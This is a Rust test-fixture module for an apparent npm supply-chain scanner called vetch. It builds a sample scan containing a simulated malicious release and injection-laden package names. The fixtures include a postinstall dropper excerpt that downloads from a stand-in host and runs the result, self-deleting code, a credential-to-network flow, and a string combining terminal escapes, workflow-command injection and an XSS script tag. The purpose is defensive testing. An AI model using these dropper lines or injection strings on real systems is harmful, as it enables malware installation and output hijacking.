//! One scan that holds everything a report must show, hostile names included.
#![allow(dead_code)] // each test binary uses a part

use vetch_model::scan::{
    PathStep, ReleaseLocation, ReleaseResult, Scan, Skipped, Target, TargetFinding, TargetKind, Unavailable,
};
use vetch_model::{
    Attributes, Capability, CapabilityId, Category, Confidence, ContentHash, EvalSource, Evidence, Finding, Flow,
    Incomplete, Location, PathClass, Profile, Purl, Resource, RuleMeta, Severity, Span, Trigger, Verdict,
};
use vetch_report::ToolInfo;

/// A name that tries every output at once.
pub(crate) const HOSTILE: &str =
    "evil\u{1b}[2J\u{202e}gpj.\n::error file=a::pwned##[group]x<script>alert(1)</script>|`@everyone`";

pub(crate) static DOWNLOAD: RuleMeta = RuleMeta {
    id: "download-and-execute",
    summary: "code that runs at install downloads a program and runs it",
    category: Category::Behaviour,
    severity: Severity::Critical,
    confidence: Confidence::High,
    techniques: &["T1105", "T1059.007"],
    remedy: "Do not run it. Remove the release and everything that asks for it, then install from a clean lockfile:\n`npm uninstall axios && npm ci`\nIf it was installed, treat every secret that this machine can read as stolen and replace it.",
    doc: "# download-and-execute\n\nAn install script that **downloads and runs** a program.\n\n## Why it matters\n\nIt runs with `npm install`, before anyone has looked. See [the axios incident](https://example.invalid/axios).\n\n```js\nhttps.get(url, r => r.pipe(file));\n```\n\n- first point, which is long enough to be wrapped when the terminal is narrow, as most terminals are\n- second point\n",
};

pub(crate) static SELF_DELETION: RuleMeta = RuleMeta {
    id: "self-deletion",
    summary: "code that removes its own files",
    category: Category::Behaviour,
    severity: Severity::High,
    confidence: Confidence::High,
    techniques: &["T1070.004"],
    remedy: "Compare the installed folder with the archive: `vetch scan --archives DIR`.",
    doc: "# self-deletion\n\nCode that removes itself.\n",
};

pub(crate) static INSTALL_SCRIPT: RuleMeta = RuleMeta {
    id: "install-script",
    summary: "runs a command when it is installed",
    category: Category::Manifest,
    severity: Severity::Low,
    confidence: Confidence::High,
    techniques: &[],
    remedy: "Install with scripts off where they are not needed: `npm ci --ignore-scripts`.",
    doc: "# install-script\n\nRuns a command at install.\n",
};

pub(crate) static PLAIN_HTTP: RuleMeta = RuleMeta {
    id: "plain-http-source",
    summary: "the lockfile takes an archive over plain http",
    category: Category::Integrity,
    severity: Severity::High,
    confidence: Confidence::Medium,
    techniques: &["T1195.002"],
    remedy: "Take it from the registry over https and lock again:\n    npm install --package-lock-only",
    doc: "# plain-http-source\n\nPlain http.\n",
};

/// The rules of the sample.
pub(crate) fn rules() -> Vec<RuleMeta> {
    vec![DOWNLOAD, INSTALL_SCRIPT, PLAIN_HTTP, SELF_DELETION]
}

/// A fixed tool.
pub(crate) fn tool() -> ToolInfo {
    ToolInfo { version: "0.1.0".into(), analysis: "1".into() }
}

pub(crate) fn at(file: &str, line: u32) -> Location {
    Location { file: file.into(), line, column: 3, span: Span { start: 100, end: 110 } }
}

pub(crate) fn code(file: &str, line: u32, source: &str, mark: &str, note: &str) -> Evidence {
    let start = source.find(mark).unwrap() as u32;
    let highlight = Span { start, end: start + mark.len() as u32 };
    Evidence::Code { location: at(file, line), excerpt: source.into(), highlight, layer: 0, note: note.into() }
}

fn field(file: &str, line: u32, name: &str, found: &str, expected: Option<&str>, note: &str) -> Evidence {
    let (field, found, expected) = (name.into(), found.into(), expected.map(String::from));
    Evidence::Field { location: at(file, line), field, found, expected, note: note.into() }
}

pub(crate) fn release(purl: Purl, verdict: Verdict, score: u8) -> ReleaseResult {
    ReleaseResult {
        purl,
        verdict,
        score,
        content_hash: Some(ContentHash([7; 32])),
        locations: Vec::new(),
        paths: Vec::new(),
        more_paths: false,
        findings: Vec::new(),
        excepted: Vec::new(),
        advisories: Vec::new(),
        indicators: Vec::new(),
        campaigns: Vec::new(),
        way_out: None,
        usage: None,
        profile: Profile::default(),
        incomplete: Vec::new(),
    }
}

fn installed(path: &str, line: u32) -> ReleaseLocation {
    ReleaseLocation { target: 0, path: Some(path.into()), declared_at: Some(at("package-lock.json", line)) }
}

fn path(steps: &[(&str, &str)]) -> Vec<PathStep> {
    steps.iter().map(|(label, range)| PathStep { label: (*label).into(), range: (*range).into() }).collect()
}

fn capability(id: CapabilityId, resource: Resource, trigger: Trigger, evidence: &Evidence) -> Capability {
    let attributes = Attributes { shell: id == CapabilityId::ProcessSpawn, detached: false, hidden: false };
    Capability { id, resource, attributes, trigger, layer: 0, evidence: evidence.clone() }
}

fn dropper() -> ReleaseResult {
    let fetch = code(
        "setup.js",
        12,
        "  https.get(`https://cdn.sfrclak.invalid:8000/${id}`, r => r.pipe(fs.createWriteStream(target)));",
        "https.get",
        "fetches a program from cdn.sfrclak.invalid",
    );
    let Evidence::Code { location, excerpt, highlight, note, .. } =
        code("setup.js", 31, "execSync(`nohup python3 ${target} &`)", "execSync", "runs what was fetched")
    else {
        unreachable!()
    };
    let run = Evidence::Code { location, excerpt, highlight, layer: 2, note };
    let hook =
        field("package.json", 8, "scripts.postinstall", "node setup.js", None, "runs when the package is installed");
    let long = format!("{}fs.unlinkSync(__filename){}", "var a=1;".repeat(14), ";b()".repeat(20));
    let delete =
        code("lib/deeply/nested/folder/of/files/cleanup.js", 1, &long, "fs.unlinkSync(__filename)", "deletes itself");
    let mut result = release(Purl::npm("plain-crypto-js", Some("4.2.1")), Verdict::Malicious, 100);
    result.locations = vec![installed("node_modules/plain-crypto-js", 112)];
    result.paths = vec![
        path(&[("your-app@1.0.0", ""), ("axios@1.14.1", "^1.14.0"), ("plain-crypto-js@4.2.1", "^4.2.1")]),
        path(&[
            ("your-app@1.0.0", ""),
            ("kit@2.0.0", "2"),
            ("axios@1.14.1", "^1"),
            ("plain-crypto-js@4.2.1", "^4.2.1"),
        ]),
        path(&[("your-app@1.0.0", ""), ("b@2.0.0", "2"), ("axios@1.14.1", "^1"), ("plain-crypto-js@4.2.1", "^4.2.1")]),
    ];
    result.findings = vec![
        Finding::new(&DOWNLOAD, "the install script downloads a program and runs it", hook.clone())
            .with_evidence([fetch.clone(), run.clone()]),
        Finding::new(&SELF_DELETION, "`cleanup.js` deletes itself after it ran", delete.clone()),
        Finding::new(&INSTALL_SCRIPT, "runs `node setup.js` at install", hook),
    ];
    result.profile.capabilities = vec![
        capability(
            CapabilityId::NetConnect,
            Resource::Named("cdn.sfrclak.invalid:8000".into()),
            Trigger::Install,
            &fetch,
        ),
        capability(
            CapabilityId::FsRead,
            Resource::Path { class: PathClass::Credentials, path: Some("~/.npmrc".into()) },
            Trigger::Install,
            &fetch,
        ),
        capability(
            CapabilityId::FsDelete,
            Resource::Path { class: PathClass::Package, path: None },
            Trigger::Install,
            &delete,
        ),
        capability(CapabilityId::ProcessSpawn, Resource::Named("nohup python3".into()), Trigger::Install, &run),
        capability(CapabilityId::CodeEval, Resource::Eval(EvalSource::Decoded), Trigger::Install, &run),
        capability(CapabilityId::EnvEnumerate, Resource::None, Trigger::Import, &fetch),
    ];
    result.profile.flows = vec![Flow {
        source: result.profile.capabilities[1].clone(),
        sink: result.profile.capabilities[0].clone(),
        trigger: Trigger::Install,
        layer: 0,
    }];
    result
}

fn hostile() -> ReleaseResult {
    let source = format!("x = \"{HOSTILE}\"; eval(y)");
    let mut result = release(Purl::npm(HOSTILE, Some("1.0.0")), Verdict::Suspicious, 60);
    result.locations =
        vec![ReleaseLocation { target: 0, path: Some(format!("node_modules/{HOSTILE}")), declared_at: None }];
    result.paths = vec![path(&[("your-app@1.0.0", ""), (HOSTILE, "^1|`x`")])];
    result.more_paths = true;
    result.findings = vec![
        Finding::new(&SELF_DELETION, format!("names {HOSTILE}"), code(HOSTILE, 2, &source, "eval(y)", HOSTILE))
            .with_evidence([field(
                "package.json",
                3,
                "name",
                HOSTILE,
                Some("something else"),
                "differs from the lockfile",
            )])
            .with_remedy(format!("Look at it:\n$ less {HOSTILE}")),
    ];
    result
}

/// The shared sample.
pub(crate) fn scan() -> Scan {
    let mut releases = vec![dropper(), hostile()];
    for name in ["esbuild", "core-js", "@parcel/watcher"] {
        let mut result = release(Purl::npm(name, Some("1.2.3")), Verdict::Notable, 5);
        let hook = field("package.json", 20, "scripts.postinstall", "node install.js", None, "runs at install");
        result.findings = vec![Finding::new(&INSTALL_SCRIPT, "runs `node install.js` at install", hook)];
        result.locations = vec![installed(&format!("node_modules/{name}"), 300)];
        releases.push(result);
    }
    for number in 0..5 {
        let mut result = release(Purl::npm("ghost", Some(&format!("1.0.{number}"))), Verdict::Incomplete, 0);
        result.content_hash = None;
        result.incomplete = vec![Incomplete::new(
            "contents",
            "the contents are not at hand",
            "Run without `--offline`, or give the archives with `--archives DIR`.",
        )];
        releases.push(result);
    }
    let mut excepted = release(Purl::npm("fsevents", Some("2.3.3")), Verdict::Clean, 0);
    let binary = Evidence::File { location: Location::file("fsevents.node"), note: "a native module".into() };
    excepted.excepted =
        vec![(Finding::new(&INSTALL_SCRIPT, "runs `node-gyp rebuild`", binary), "reviewed by the build team".into())];
    releases.push(excepted);
    releases.extend((0..1_193).map(|n| release(Purl::npm(&format!("clean-{n}"), Some("1.0.0")), Verdict::Clean, 0)));
    let http = field(
        "package-lock.json",
        77,
        "resolved",
        "http://mirror.invalid/x.tgz",
        None,
        "anyone on the way can change it",
    );
    Scan {
        intelligence: None,
        files: Vec::new(),
        targets: vec![Target { path: ".".into(), kind: TargetKind::Project }],
        releases,
        findings: vec![TargetFinding {
            target: 0,
            finding: Finding::new(&PLAIN_HTTP, "an archive comes over plain http", http),
        }],
        incomplete: vec![
            Incomplete::new(
                "lockfile entry `node_modules/odd`",
                "its `version` is a number, not a text",
                "Lock again with `npm install --package-lock-only`.",
            )
            .at(at("package-lock.json", 501)),
        ],
        skipped: vec![
            Skipped { what: "@esbuild/win32-x64@0.21.5".into(), why: "for another platform, not installed".into() },
            Skipped { what: "@esbuild/darwin-arm64@0.21.5".into(), why: "for another platform, not installed".into() },
        ],
        unavailable: vec![Unavailable {
            what: "publication times".into(),
            why: "the mirror in use does not pass them on; scan against registry.npmjs.org to have them".into(),
        }],
    }
}

/// The sample without the many clean releases, for formats that list them all.
pub(crate) fn small_scan() -> Scan {
    let mut scan = scan();
    scan.releases.truncate(13);
    scan
}
